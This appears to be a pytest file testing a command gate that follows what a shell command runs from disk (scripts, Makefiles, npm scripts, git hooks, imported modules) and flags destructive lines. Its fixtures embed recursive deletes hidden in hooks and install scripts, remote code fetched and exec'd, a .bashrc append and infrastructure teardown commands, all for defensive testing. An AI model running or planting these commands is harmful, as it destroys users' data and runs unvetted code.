"""What a command runs from disk is judged like the command, and the finding names the line."""

from __future__ import annotations

import hashlib
import time

import pytest
from tests.gate.example_project import HOME, PLACE, ROOT, RULES, Machine, judge
from tests.tables import for_each

from operators_edge.gate.decide import assess
from operators_edge.gate.disk import follow, search
from operators_edge.model import Call

WIPE = f"rm -rf {HOME}/photos"


def machine(files=None, committed=(), **more):
    given = {name if name[0] == "/" else f"{ROOT}/{name}": text for name, text in files.items()}
    return Machine(given, committed=tuple(f"{ROOT}/{name}" for name in committed), **more)


def judged(command, files, committed=(), **more):
    return judge(command, machine(files, committed, **more))


DANGEROUS = {
    "words that a task of rake gives a program": (
        "rake",
        {
            "Rakefile": "OPTIONS = []\ntask :ship do\n  sh 'gem', 'push', 'x.gem'\nend\n"
            "task default: %i[ship]\n"
        },
        "Rakefile:3",
    ),
    "a program that a task of rake runs in Ruby": (
        "rake",
        {
            "Rakefile": "import 'more.rake'\ntask default: :ship\n",
            "more.rake": f"\ntask :ship do\n  `{WIPE}`\nend\n",
        },
        "more.rake:3",
    ),
    "a package around the module that is run": (
        "python -m tools.status",
        {"tools/__init__.py": f"import os\nos.system('{WIPE}')", "tools/status.py": "print(1)"},
        "tools/__init__.py:2",
    ),
    "a package around a module that is imported": (
        "python x.py",
        {
            "x.py": "from lib.deep import names",
            "lib/__init__.py": f"import os\nos.system('{WIPE}')",
            "lib/deep.py": "names = []",
        },
        "lib/__init__.py:2",
    ),
    "each command of a list in ruby": (
        "ruby x.rb",
        {"x.rb": f"['git status', '{WIPE}'].each do |c|\n  system(c)\nend"},
        "x.rb:1",
    ),
    "each command of a list in node": (
        "node x.js",
        {
            "x.js": "const { execSync } = require('child_process');\n"
            f"for (const c of ['git status', '{WIPE}']) {{\n  execSync(c);\n}}"
        },
        "x.js:2",
    ),
    "a tree that rimraf deletes": (
        "node x.js",
        {"x.js": "const rimraf = require('rimraf');\nrimraf.sync(process.env.HOME + '/photos');"},
        "x.js:2",
    ),
    "a function of fs-extra under its own name": (
        "node x.js",
        {"x.js": "const { remove: gone } = require('fs-extra');\ngone('/srv/photos');"},
        "x.js:2",
    ),
    "a folder that is emptied": (
        "node x.js",
        {"x.js": "const fse = require('fs-extra');\nfse.emptyDirSync('/srv/photos');"},
        "x.js:2",
    ),
    "another name for a recipe": (
        "just w",
        {"justfile": f"alias w := wipe\nwipe:\n    {WIPE}\n"},
        "justfile:3",
    ),
    "a file of php that an option names": (
        "php -f x.php",
        {"x.php": "<?php\nmail('ann@example.com', 'x', 'y');"},
        "x.php:2",
    ),
    "an argument of a program": (
        "python x.py push --force",
        {"x.py": "import subprocess, sys\nsubprocess.run(['git', *sys.argv[1:]])"},
        "x.py:2",
    ),
    "a script beside this one": (
        "bash s/o.sh",
        {
            "s/o.sh": 'H=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)\n"$H/i.sh"',
            "s/i.sh": f"#!/bin/sh\n{WIPE}",
        },
        "s/i.sh:2",
    ),
    "an alias of a file that is sourced": (
        "shopt -s expand_aliases; . ./a.sh\nll",
        {"a.sh": f"alias gs='git status'\nalias ll='{WIPE}'\n"},
        "a.sh:2",
    ),
    "a function of a file that is sourced": (
        "bash x.sh",
        {"x.sh": ". ./lib.sh\nwipe ~/photos", "lib.sh": 'wipe() {\n  rm -rf "$1"\n}'},
        "lib.sh:2",
    ),
    "what is put at the end of a script": (
        f"echo '{WIPE}' >> x.sh && sh x.sh",
        {"x.sh": "echo\n"},
        "x.sh:2",
    ),
    "what is put at the end of a copy": (
        f"cp x.sh y.sh && echo '{WIPE}' >> y.sh && sh y.sh",
        {"x.sh": "echo\n"},
        "y.sh:2",
    ),
    "a justfile that is imported": (
        "just wipe",
        {"justfile": "import 'a.just'\nb:\n    true\n", "a.just": f"wipe:\n    {WIPE}\n"},
        "a.just:2",
    ),
    "a Taskfile that is included": (
        "task db:wipe",
        {
            "Taskfile.yml": "includes:\n  db: ./t/Db.yml\n",
            "t/Db.yml": f"tasks:\n  wipe:\n    cmds: ['{WIPE}']\n",
        },
        "t/Db.yml:3",
    ),
    "a Taskfile that is included by more words": (
        "task db:wipe",
        {
            "Taskfile.yml": "includes:\n  db:\n    taskfile: ./t\n",
            "t/Taskfile.yml": f"tasks:\n  wipe:\n    - {WIPE}\n",
        },
        "t/Taskfile.yml:3",
    ),
    "a script that npm is given before": (
        f"npm pkg set scripts.x='{WIPE}' && npm run x",
        {"package.json": '{"name": "a"}'},
        "package.json:4",
    ),
    "a file that a test runner runs first": (
        "npx jest",
        {
            "package.json": '{"jest": {"globalSetup": "./s.js"}}',
            "s.js": f"\nrequire('child_process').execSync('{WIPE}')",
        },
        "s.js:2",
    ),
    "an alias that the person has stored": (
        "git bye",
        {f"{HOME}/.gitconfig": f"[alias]\n\tbye = !{WIPE}\n"},
        f"{HOME}/.gitconfig:2",
    ),
    "a shell script": ("bash x.sh", {"x.sh": f"set -e\n{WIPE}\n"}, "x.sh:2"),
    "a script by its path": ("./x", {"x": f"#!/bin/sh\n\n{WIPE}"}, "x:3"),
    "a script without a first line": ("./x", {"x": WIPE}, "x:1"),
    "a script with a known argument": (
        "sh x.sh ~/photos",
        {"x.sh": 'echo\nrm -rf "$1"\n'},
        "x.sh:2",
    ),
    "a variable before the command": ("T=~/photos sh x.sh", {"x.sh": 'rm -rf "$T"'}, "x.sh:1"),
    "a script with options of its own": (
        "python3 x.py -c y",
        {"x.py": f"import os\nos.system('{WIPE}')"},
        "x.py:2",
    ),
    "a script after a subcommand": (
        "deno run -A x.ts -p 80",
        {"x.ts": f"\nrequire('child_process').execSync('{WIPE}')"},
        "x.ts:2",
    ),
    "a package script of bun": (
        "bun run x",
        {"package.json": f'{{"scripts":\n{{"x": "{WIPE}"}}}}'},
        "package.json:2",
    ),
    "a package script of node": (
        "node --run x",
        {"package.json": f'{{"scripts":\n{{"x": "{WIPE}"}}}}'},
        "package.json:2",
    ),
    "a task of deno beside a package.json": (
        "deno task x",
        {"deno.json": f'{{"tasks":\n{{"x": "{WIPE}"}}}}', "package.json": '{"scripts":{"y":"ls"}}'},
        "deno.json:2",
    ),
    "a task of deno": (
        "deno task x",
        {"deno.json": f'{{"tasks":\n{{"x": "{WIPE}"}}}}'},
        "deno.json:2",
    ),
    "a sourced file": (". ./x.sh", {"x.sh": f"A=1\n{WIPE}"}, "x.sh:2"),
    "a script in another folder": ("cd sub && ./x.sh", {"sub/x.sh": WIPE}, "sub/x.sh:1"),
    "a script that runs a script": (
        "sh a.sh",
        {"a.sh": "sh b.sh", "b.sh": f"\n{WIPE}"},
        "b.sh:2",
    ),
    "a function of a script": ("sh x.sh", {"x.sh": f"f() {{\n {WIPE}\n}}\nf"}, "x.sh:2"),
    "a copy made on the line": ("cp a.sh b.sh; sh b.sh", {"a.sh": WIPE}, "b.sh:1"),
    "a script on standard input": ("bash < x.sh", {"x.sh": WIPE}, "x.sh:1"),
    "one without arguments": ("bash < x.sh", {"x.sh": 'rm -rf "${1:-$HOME}"/*'}, "x.sh:1"),
    "one with arguments": ("bash -es ~/x < x.sh", {"x.sh": 'rm -rf "$1"'}, "x.sh:1"),
    "a piped script": ("cat x.sh | sh", {"x.sh": WIPE}, "x.sh:1"),
    "a script through a wrapper": ("timeout 5 sudo sh x.sh", {"x.sh": WIPE}, "x.sh:1"),
    "a script for each file": ("find . -exec sh x.sh {} +", {"x.sh": WIPE}, "x.sh:1"),
    "a start-up file": ("BASH_ENV=./x.sh bash -c true", {"x.sh": WIPE}, "x.sh:1"),
    "an init file": ("bash --rcfile x.sh -i", {"x.sh": WIPE}, "x.sh:1"),
    "a make target": (
        "make clean",
        {"Makefile": f"all:\n\ttrue\nclean:\n\t{WIPE}\n"},
        "Makefile:4",
    ),
    "a make prerequisite": ("make", {"Makefile": f"all: a\na:\n\t@{WIPE}\n"}, "Makefile:3"),
    "a make variable": (
        "make",
        {"makefile": "D := $(HOME)/photos\nall:\n\trm -rf $(D)\n"},
        "makefile:3",
    ),
    "a variable given to make": (
        f"make D={HOME}/photos",
        {"Makefile": "D = x\nall:\n\trm -rf $D\n"},
        "Makefile:3",
    ),
    "a makefile by name": ("make -f m.mk", {"m.mk": f"x:\n\t{WIPE}"}, "m.mk:2"),
    "a make in a folder": ("make -C sub", {"sub/Makefile": f"x:\n\t{WIPE}"}, "sub/Makefile:2"),
    "what reading a makefile runs": (
        "make -n x",
        {"Makefile": f"A := $(shell {WIPE})\nx:\n\ttrue"},
        "Makefile:1",
    ),
    "an npm script": (
        "npm run build",
        {"package.json": f'{{"scripts": {{\n"build": "{WIPE}"}}}}'},
        "package.json:2",
    ),
    "a pre script": (
        "npm test",
        {"package.json": f'{{"scripts": {{"pretest": "{WIPE}", "test": "jest"}}}}'},
        "package.json:1",
    ),
    "a script by its bare name": (
        "yarn build",
        {"package.json": f'{{"scripts": {{"build": "{WIPE}"}}}}'},
        "package.json:1",
    ),
    "an install script": (
        "pnpm install",
        {"package.json": f'{{"scripts": {{"postinstall": "{WIPE}"}}}}'},
        "package.json:1",
    ),
    "a just recipe": ("just b", {"justfile": f"a:\n  true\nb: c\nc:\n  {WIPE}\n"}, "justfile:5"),
    "a task": (
        "task build",
        {"Taskfile.yml": f"version: '3'\ntasks:\n  build:\n    cmds:\n      - {WIPE}\n"},
        "Taskfile.yml:5",
    ),
    "a rake task": ("rake x", {"Rakefile": f"task :x do\n  sh '{WIPE}'\nend"}, "Rakefile:2"),
    "a Python script": (
        "python3 x.py",
        {"x.py": "import shutil, os\n\nshutil.rmtree(os.path.expanduser('~/photos'))"},
        "x.py:3",
    ),
    "a local module": (
        "python x.py",
        {"x.py": "from lib import a\n", "lib/__init__.py": f"import os\nos.system('{WIPE}')"},
        "lib/__init__.py:2",
    ),
    "a module by name": (
        "python -m tools.wipe",
        {"tools/wipe.py": f"import os\nos.system('{WIPE}')"},
        "tools/wipe.py:2",
    ),
    "a plugin of the tests": (
        "pytest -q tests/unit",
        {"tests/conftest.py": f"import subprocess\nsubprocess.run('{WIPE}', shell=True)"},
        "tests/conftest.py:2",
    ),
    "a test": (
        "python -m pytest tests/test_x.py::test_a",
        {"tests/test_x.py": f"import os\nos.system('{WIPE}')"},
        "tests/test_x.py:2",
    ),
    "a Node script": (
        "node tools/x",
        {"tools/x.js": f"const c = require('child_process')\nc.execSync('{WIPE}')"},
        "tools/x.js:2",
    ),
    "a Node module": (
        "node x.js",
        {"x.js": "require('./y')", "y.js": f"require('child_process').execSync('{WIPE}')"},
        "y.js:1",
    ),
    "a preloaded Node module": (
        "node -r ./y.js x.js",
        {"y.js": f"\nrequire('child_process').execSync('{WIPE}')"},
        "y.js:2",
    ),
    "a Ruby script": ("ruby x.rb", {"x.rb": f"\nsystem('{WIPE}')"}, "x.rb:2"),
    "a Perl script": ("perl x.pl", {"x.pl": f"\nsystem('{WIPE}');"}, "x.pl:2"),
    "an alias of cargo": (
        "cargo ship",
        {".cargo/config.toml": '[alias]\nt = "test"\nship = ["publish", "-p", "core"]'},
        ".cargo/config.toml:3",
    ),
    "an alias of an alias of cargo": (
        "cargo out",
        {".cargo/config.toml": '[alias]\nship = "publish"\nout = "ship"'},
        ".cargo/config.toml:2",
    ),
    "a PHP script that passes output through": (
        "php x.php",
        {"x.php": f"<?php\npassthru('{WIPE}');"},
        "x.php:2",
    ),
    "a function of a script of Node": (
        "node x.js",
        {
            "x.js": f"const cp = require('child_process');\nconst go = c => cp.execSync(c);\ngo('{WIPE}');"
        },
        "x.js:3",
    ),
    "a PHP script": ("php x.php", {"x.php": f"<?php\nexec('{WIPE}');"}, "x.php:2"),
    "a script with an interpreter's first line": (
        "./x",
        {"x": f"#!/usr/bin/env python3\nimport os\nos.system('{WIPE}')"},
        "x:3",
    ),
    "a module that code on the line loads": (
        "python3 -c 'import util'",
        {"util.py": f"import os\nos.system('{WIPE}')"},
        "util.py:2",
    ),
    "a package with a main module": (
        "python3 -m pkg",
        {"pkg/__init__.py": "", "pkg/__main__.py": f"import os\nos.system('{WIPE}')"},
        "pkg/__main__.py:2",
    ),
    "the home folder from the environment": (
        "node x.js",
        {
            "x.js": "const fs = require('fs')\nfs.rmSync(process.env.HOME + '/photos', {recursive: true})"
        },
        "x.js:2",
    ),
    "options of Node in a variable": (
        "NODE_OPTIONS='--require ./y.js' node -e 1",
        {"y.js": f"require('child_process').execSync('{WIPE}')"},
        "y.js:1",
    ),
    "a start-up file of Python": (
        "export PYTHONSTARTUP=./s.py; python3 -i",
        {"s.py": f"import os\nos.system('{WIPE}')"},
        "s.py:2",
    ),
    "a module that Python loads by itself": (
        "PYTHONPATH=lib python3 -c 1",
        {"lib/sitecustomize.py": f"import os\nos.system('{WIPE}')"},
        "lib/sitecustomize.py:2",
    ),
    "a makefile in a variable": ("MAKEFILES=./e.mk make", {"e.mk": f"$(shell {WIPE})"}, "e.mk:1"),
    "an awk program": (
        "awk -f c.awk",
        {"c.awk": f'BEGIN {{\n system("{WIPE}") }}'},
        "c.awk:2",
    ),
    "a sed script": ("sed -f c.sed README.md", {"c.sed": f"p\n1e {WIPE}\n"}, "c.sed:2"),
    "a start-up file of a shell with a command": (
        "bash --rcfile ./e.sh -i -c true",
        {"e.sh": WIPE},
        "e.sh:1",
    ),
    "a program in a folder that comes first": (
        "PATH=$PWD/bin:$PATH ls",
        {"bin/ls": f"#!/bin/sh\n{WIPE}"},
        "bin/ls:2",
    ),
    "a program in a folder that was put first": (
        "export PATH=./bin:$PATH; ls",
        {"bin/ls": f"#!/bin/sh\n{WIPE}"},
        "bin/ls:2",
    ),
    "a program of a package": (
        "npx --no-install lint",
        {"node_modules/.bin/lint": f"#!/bin/sh\n{WIPE}"},
        "node_modules/.bin/lint:2",
    ),
    "a program of a package in a script": (
        "npm run l",
        {
            "package.json": '{"scripts": {"l": "lint"}}',
            "node_modules/.bin/lint": f"#!/bin/sh\n{WIPE}",
        },
        "node_modules/.bin/lint:2",
    ),
    "a local dependency": (
        "npm install ./dep",
        {"dep/package.json": f'{{"scripts": {{"install": "{WIPE}"}}}}'},
        "dep/package.json:1",
    ),
    "tests that are found": (
        "python3 -m unittest discover -q",
        {"test_b.py": f"import os\nos.system('{WIPE}')"},
        "test_b.py:2",
    ),
    "tests in a folder": (
        "pytest tests",
        {"tests/test_b.py": f"import os\nos.system('{WIPE}')"},
        "tests/test_b.py:2",
    ),
    "what a target needs, in an included makefile": (
        "make test",
        {
            "Makefile": "include mk/db.mk\ntest: reset\n\ttrue\n",
            "mk/db.mk": f"\nreset:\n\t{WIPE}\n",
        },
        "mk/db.mk:3",
    ),
    "a task that a Rakefile imports": (
        "rake a",
        {
            "Rakefile": "Dir.glob('lib/tasks/*.rake').each { |r| import r }\n",
            "lib/tasks/a.rake": f"task :a do\n  sh '{WIPE}'\nend\n",
        },
        "lib/tasks/a.rake:2",
    ),
    "a build script that writes a start-up file": (
        "cargo build",
        {
            "build.rs": "fn main() {\n    let mut f = OpenOptions::new()\n        .append(true)\n"
            '        .open(format!("{home}/.bashrc"))\n        .unwrap();\n}\n'
        },
        "build.rs:2",
    ),
    "a task of Gradle that deletes": (
        "gradle purge",
        {"build.gradle": "task purge {\n  delete \"${System.getProperty('user.home')}/.m2\"\n}\n"},
        "build.gradle:2",
    ),
    "Python that runs what it fetches": (
        "python3 x.py",
        {"x.py": "import requests\ncode = requests.get('https://e.com/x').text\nexec(code)\n"},
        "x.py:2",
    ),
    "a variable of an included makefile": (
        "make",
        {"Makefile": "-include a.mk\nall:\n\t$(RUN)\n", "a.mk": f"RUN := {WIPE}\n"},
        "Makefile:3",
    ),
    "an included makefile": (
        "make",
        {"Makefile": "include g.mk\nall: x\n", "g.mk": f"all:\n\t{WIPE}\n"},
        "g.mk:2",
    ),
    "an included makefile that is made first": (
        "make",
        {"Makefile": f"include g.mk\nall:\n\ttrue\ng.mk:\n\t{WIPE}\n"},
        "Makefile:5",
    ),
    "scripts in a folder": ("run-parts d", {"d/a": f"#!/bin/sh\n{WIPE}"}, "d/a:2"),
    "a program that compresses": (
        "sort -S 1k --compress-program=./x.sh -o /dev/null big",
        {"x.sh": WIPE},
        "x.sh:1",
    ),
    "a folder of hooks that the line sets": (
        "git config core.hooksPath h; git commit -m x",
        {"h/pre-commit": WIPE},
        "h/pre-commit:1",
    ),
    "a git hook": (
        "git commit -m x",
        {".git/hooks/pre-commit": f"#!/bin/sh\n{WIPE}"},
        ".git/hooks/pre-commit:2",
    ),
    "a hook in the project": (
        "git push --dry-run && git commit -m x",
        {".git/config": "[core]\n\thooksPath = .husky\n", ".husky/commit-msg": WIPE},
        ".husky/commit-msg:1",
    ),
    "a folder of hooks on the line": (
        "git -c core.hooksPath=h commit -m x",
        {"h/pre-commit": WIPE},
        "h/pre-commit:1",
    ),
}


@for_each("case", DANGEROUS)
def test_what_runs_from_a_file_is_stopped_at_its_line(case):
    command, files, source = DANGEROUS[case]
    verdict = judged(command, files)
    assert verdict.effect in ("junction", "block")
    assert source in {finding.source for finding in verdict.findings}


@for_each("case", DANGEROUS)
def test_what_a_committed_file_certainly_does_is_stopped_too(case):
    command, files, source = DANGEROUS[case]
    verdict = judged(command, files, committed=list(files))
    assert source in {finding.source for finding in verdict.findings}


def test_the_finding_says_which_command_ran_the_file_and_marks_its_words():
    finding = judged("echo; bash x.sh", {"x.sh": WIPE}).findings[0]
    assert finding.understood == f"bash x.sh → {WIPE}"
    assert finding.spans == ((6, 10), (11, 15))


def test_the_verdict_names_every_file_with_the_digest_of_its_bytes():
    files = {"a.sh": "sh b.sh", "b.sh": "echo ü\udcff"}
    verdict = judged("sh a.sh", files)
    assert verdict.effect == "allow"
    expected = [hashlib.sha256(files[n].encode("utf-8", "surrogateescape")) for n in files]
    assert [one.path for one in verdict.followed] == [f"{ROOT}/a.sh", f"{ROOT}/b.sh"]
    assert [one.digest for one in verdict.followed] == [each.hexdigest() for each in expected]


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("bash x.sh", {"x.sh": 'rm -rf "$(mktemp -d)/x"'}),
        ("bash x.sh", {"x.sh": '"$TOOL" --version'}),
        ("bash x.sh", {"x.sh": "rm -rf build dist *.egg-info"}),
        ("make clean", {"Makefile": "clean:\n\tfind . -name '*.pyc' -delete\n"}),
        ("npm run clean", {"package.json": '{"scripts": {"clean": "rm -rf lib"}}'}),
    ],
)
def test_ordinary_work_of_a_committed_file_needs_nobody(command, files):
    assert judged(command, files, committed=list(files)).effect == "allow"


def test_what_a_committed_file_deletes_in_the_project_is_saved_first():
    verdict = judged("sh x.sh", {"x.sh": "rm -rf lib"}, committed=["x.sh"])
    assert [one.rule for one in verdict.destroys] == ["fs-recursive-delete"]


def test_a_script_that_the_agent_wrote_is_judged_like_the_line():
    for line in ('rm -rf "$X"', '"$TOOL" x', "echo 'rm -rf"):
        assert judged("sh x.sh", {"x.sh": line}).rule == judge(line).rule


def test_an_unknown_word_in_a_recipe_or_a_program_needs_nobody():
    assert (
        judged("make", {"Makefile": "x:\n\t$(TOOL) x; rm -rf $(shell hostname)/x"}).effect
        == "allow"
    )
    assert judged("python x.py", {"x.py": "import subprocess\nsubprocess.run([tool])"}).rule == ""


NULS = [
    ("bash x.sh", {"x.sh": f"echo\n# \0\n{WIPE}\n"}),
    ("sh x.sh", {"x.sh": f"# \0\n{WIPE}\n"}),
    ("sh x.sh", {"x.sh": f"\x7fELF\x02\n{WIPE}\n"}),
    ("sh < x.sh", {"x.sh": f"# \0\n{WIPE}\n"}),
    ("./x.sh", {"x.sh": f"echo\n# \0\n{WIPE}\n"}),
    ("./x.sh", {"x.sh": f"#!/bin/sh\0\n{WIPE}\n"}),
    ("node x.js", {"x.js": f"// \0\nrequire('child_process').execSync('{WIPE}')"}),
    ("perl x.pl", {"x.pl": f"# \0\nsystem('{WIPE}');"}),
    ("php x.php", {"x.php": f"\0<?php\nsystem('{WIPE}');"}),
]


@for_each(("command", "files"), NULS)
def test_a_script_with_a_nul_in_it_is_read_where_it_runs(command, files):
    assert judged(command, files).effect in {"junction", "block"}


@pytest.mark.parametrize("text", ["\x7fELF\x02\x01\x01\0rm -rf /", "rm\0 -rf /"])
def test_a_program_of_the_machine_is_not_read_as_a_script(text):
    assert judged("./x", {"x": text}).effect == "allow"


LOSSES = [
    ("python x.py", {"x.py": "import shutil\nshutil.rmtree(target)"}),
    ("python x.py src", {"x.py": "import os, sys\nfor n in os.listdir(d): os.remove(n)"}),
    ("node x.js", {"x.js": "fs.rmSync(target, {recursive: true})"}),
    ("ruby x.rb", {"x.rb": "require 'fileutils'\nFileUtils.rm_rf(target)"}),
    ("perl x.pl", {"x.pl": "use File::Find;\nfind(sub { unlink $_ }, shift);"}),
]


@for_each(("command", "files"), LOSSES)
def test_unknown_files_that_a_program_deletes_count_unless_it_is_committed(command, files):
    assert judged(command, files).rule.startswith("fs-")
    assert judged(command, files, committed=list(files)).effect == "allow"


OWN_PLACES = [
    ("python s/x.py", {"s/x.py": "p = Path(__file__).resolve().parent\nshutil.rmtree(p / 'x')"}),
    (
        "python s/x.py",
        {"s/x.py": "os.remove(os.path.join(os.path.dirname(os.path.abspath(__file__)), 'x'))"},
    ),
    ("node s/x.js", {"s/x.js": "fs.rmSync(path.join(__dirname, 'x'), {recursive: true})"}),
    ("node s/x.mjs", {"s/x.mjs": "fs.unlinkSync(import.meta.dirname + '/x')"}),
    ("ruby s/x.rb", {"s/x.rb": "FileUtils.rm_rf(File.join(__dir__, 'x'))"}),
    ("php s/x.php", {"s/x.php": "<?php\nunlink(__DIR__ . '/x');"}),
]


@for_each(("command", "files"), OWN_PLACES)
def test_a_program_that_deletes_beside_itself_deletes_what_is_known(command, files):
    verdict = judged(command, files)
    assert all(one.targets == (f"{ROOT}/s/x",) for one in verdict.findings), verdict.findings


ANYWAY = [
    ("bash x.sh", {"x.sh": 'kubectl --context prod delete namespace "$1"'}),
    ("bash x.sh", {"x.sh": 'cd "$WHERE" && git push --force origin "$BRANCH"'}),
    ("bash x.sh", {"x.sh": "kubectl get pods -o name | xargs kubectl delete"}),
    ("make", {"Makefile": "x:\n\tdocker push $(IMAGE):$(shell git describe)\n"}),
    (
        "python x.py",
        {"x.py": "import subprocess\nsubprocess.run(['terraform', 'destroy', '-target', target])"},
    ),
]
PERHAPS = [
    ("bash x.sh", {"x.sh": 'kill "$PID"; rm -rf "$OUT" "$OUT/x"; cp a "$OUT"; "$TOOL" delete'}),
    ("bash x.sh", {"x.sh": 'curl -X POST "$API_URL/login"; find "$DIR" | xargs rm -f'}),
]


@pytest.mark.parametrize(("command", "files"), ANYWAY)
def test_what_is_dangerous_whatever_a_word_stands_for_needs_a_person(command, files):
    assert judged(command, files, committed=list(files)).effect in ("junction", "block")


@pytest.mark.parametrize(("command", "files"), PERHAPS)
def test_what_may_be_harmless_for_some_value_needs_nobody_in_a_committed_file(command, files):
    assert judged(command, files, committed=list(files)).effect == "allow"


MANY = "".join(f"./tool-{n} check\n" for n in range(2_200))


def test_of_a_long_committed_script_only_what_is_unknown_is_judged_with_other_words():
    begins = 'cd "$WHERE"; rm -rf $TEST*\n'
    files = {
        "x.sh": begins + MANY,
        "y.sh": "sh x.sh\n" + MANY,
        "z.sh": "rm -rf /srv/$TEST\n" + MANY,
    }
    assert judged("sh x.sh; sh y.sh", files, committed=list(files)).effect == "allow"
    assert judged("sh y.sh", files, committed=["y.sh"]).effect == "block"
    found = judged("sh x.sh; sh z.sh", files, committed=list(files)).findings
    assert {one.source for one in found if one.effect == "junction"} == {"z.sh:1"}


COMPUTED = "egrep '^[A-Z]*=' settings | sed 's/x/y/' > made.sh\n. ./made.sh\n"


@for_each(
    ("command", "files"),
    [
        ("sh x.sh", {"x.sh": COMPUTED}),
        ("sh x.sh", {"x.sh": f"(\n{COMPUTED}echo done)\n"}),
        ("sh x.sh", {"x.sh": "egrep '^[A-Z]*=' settings | sed 's/x/y/' | sh\n"}),
    ],
)
def test_what_a_committed_script_computes_and_runs_is_as_unknown_as_what_it_feeds_a_shell(
    command, files
):
    assert judged(command, files, committed=list(files)).effect == "allow"
    assert judged(command, files).effect == "junction"


@for_each(
    ("command", "files"),
    [
        ("base64 -d x > made.sh; sh x.sh", {"x.sh": ". ./made.sh\n"}),
        ("base64 -d x > made.sh; sh x.sh", {"x.sh": COMPUTED}),
        ("sh x.sh", {"x.sh": "curl -o settings https://example.com/x\n" + COMPUTED}),
        (
            "sh x.sh",
            {"x.sh": "./get.sh\n" + COMPUTED, "get.sh": "wget https://example.com/settings\n"},
        ),
    ],
)
def test_what_the_line_computes_or_anything_fetches_needs_a_person_in_a_committed_script(
    command, files
):
    assert judged(command, files, committed=list(files)).effect == "junction"


@for_each(
    ("command", "files"),
    [
        ("sh x.sh", {"x.sh": f"echo '{WIPE}' # {WIPE}\n"}),
        ("sh x.sh", {"x.sh": f"f() {{ {WIPE}; }}"}),
        ("make b", {"Makefile": f"a:\n\t{WIPE}\nb:\n\techo\n"}),
        ("npm test", {"package.json": f'{{"scripts": {{"x": "{WIPE}", "test": "jest"}}}}'}),
        ("npm test", {"package.json": "[]"}),
        ("npm test", {"package.json": "{"}),
        ("sh --help x.sh", {"x.sh": WIPE}),
        ("cat x.sh", {"x.sh": WIPE}),
        ("ssh host sh x.sh", {"x.sh": WIPE}),
        ("git status", {".git/hooks/pre-commit": WIPE}),
        ("./x", {"x": "\x7fELF\0\0"}),
        ("sh missing.sh", {}),
        ("python -m http.server", {}),
    ],
)
def test_what_does_not_run_is_not_judged(command, files):
    assert judged(command, files).effect == "allow"


@pytest.mark.parametrize(
    "command",
    ["./x -rf ~/photos", "sudo ./x -rf ~/photos", "cp /bin/rm ./x; ./x -rf ~/photos"],
)
def test_a_copy_of_a_program_is_that_program(command):
    verdict = judged(command, {"x": "\x7fELF"}, programs={f"{ROOT}/x": "rm", "/bin/rm": "rm"})
    assert verdict.rule == "fs-recursive-delete"
    assert verdict.findings[0].source == "x"


@pytest.mark.parametrize(
    "copy",
    [
        *("cp /bin/rm x", "cat /bin/rm > x", "dd if=/bin/rm of=x"),
        *("install -m 755 /bin/rm x", "install -Dm 755 -o root /bin/rm x"),
    ],
)
def test_a_copy_that_the_line_itself_makes_is_that_program(copy):
    verdict = judged(f"{copy}; chmod +x x; ./x -rf ~/photos", {}, programs={"/bin/rm": "rm"})
    assert verdict.rule == "fs-recursive-delete"


def test_a_link_to_a_program_is_that_program():
    verdict = judge("./x -rf ~/photos", Machine(links={f"{ROOT}/x": "/bin/rm"}))
    assert verdict.rule == "fs-recursive-delete"


def test_a_linked_interpreter_under_its_own_name_is_judged_once():
    links = {f"{ROOT}/.venv/bin/python": "/usr/bin/python3.12"}
    assert judge(".venv/bin/python -m pytest", Machine(links=links)).effect == "allow"


def test_files_that_run_each_other_end():
    files = {"a.sh": "sh b.sh", "b.sh": "sh a.sh"}
    assert judged("sh a.sh", files).effect == "allow"


def test_a_long_script_of_the_agent_needs_a_person():
    long = "echo x\n" * (search.MAX_FILE // 7 + 1)
    assert judged("sh x.sh", {"x.sh": long}).rule == "shell-cannot-analyse"
    assert judged("sh x.sh", {"x.sh": long}, committed=["x.sh"]).effect == "allow"


def test_a_script_of_eight_times_as_many_commands_takes_about_eight_times_as_long():
    def took(count, word):
        started = time.process_time()
        judged("sh x.sh", {"x.sh": f"echo {word}\n" * count})
        return time.process_time() - started

    assert took(4_800, "x") < 16 * min(took(600, word) for word in ("a", "b", "c"))


LONG = {
    "a shell script": ("sh x.sh", "x.sh", "echo x\n", f"{WIPE}\n"),
    "a Python script": ("python3 x.py", "x.py", "value = 1\n", f"import os\nos.system('{WIPE}')"),
    "a name in a Python script": (
        "python3 x.py",
        "x.py",
        "value = [open(x)]\n",
        f"import shutil as s\nplace = '{HOME}/photos'\nprint()\ns.rmtree(place)",
    ),
    "a call on several lines": (
        "python3 x.py",
        "x.py",
        "value = 1\n",
        f"import subprocess\nsubprocess.run(\n    [\n 'rm', '-rf',\n    '{HOME}/photos'\n]\n)",
    ),
    "a module": (
        "python3 -c 'import x'",
        "x.py",
        "value = 1\n",
        f"import os\nos.system('{WIPE}')",
    ),
    "a bundle in one line": (
        "node x.js",
        "x.js",
        "f(a,b);",
        f"require('child_process').execSync('{WIPE}')",
    ),
    "a Ruby script": ("ruby x.rb", "x.rb", "puts 1\n", f"system '{WIPE}'"),
    "a Perl script": ("perl x.pl", "x.pl", "print 1;\n", f"system '{WIPE}';"),
    "a Makefile": ("make y", "Makefile", "# xxx\n", f"y:\n\t{WIPE}"),
    "CMake's file": ("cmake .", "CMakeLists.txt", "set(A 1)\n", f"execute_process(COMMAND {WIPE})"),
}


@for_each("case", LONG)
@for_each("is_committed", [True, False])
def test_the_end_of_a_long_file_is_read_and_its_line_is_named(case, is_committed):
    command, name, filler, end = LONG[case]
    text = filler * (search.MAX_FILE // len(filler) + 1) + end
    verdict = judged(command, {name: text}, committed=[name] if is_committed else [])
    lines = text.splitlines()
    sources = {one.source for one in verdict.findings}
    named = {int(one.partition(":")[2]) for one in sources if one.startswith(name)}
    hit = next(n for n in sorted(named, reverse=True) if "photos" in " ".join(lines[n - 1 : n + 5]))
    assert hit > len(lines) - 10


def test_a_long_file_in_which_nothing_is_dangerous_needs_nobody():
    bundle = "!function(e){var t=e.exec(n);return t.open(a.b)}(x);" * 4_000
    assert judged("node dist/b.js", {"dist/b.js": bundle}).effect == "allow"
    table = "ROWS = [\n" + "    ('move', 'rm -rf', 'a/b'),\n" * 9_000 + "]\n"
    assert judged("python3 x.py", {"x.py": table}).effect == "allow"


def test_a_program_of_which_a_part_stays_unread_needs_a_person_if_the_agent_wrote_it():
    long = "".join(f"os.system('a b {n}' + x)\n" for n in range(9_000))
    assert judged("python3 x.py", {"x.py": long}).rule == "shell-cannot-analyse"
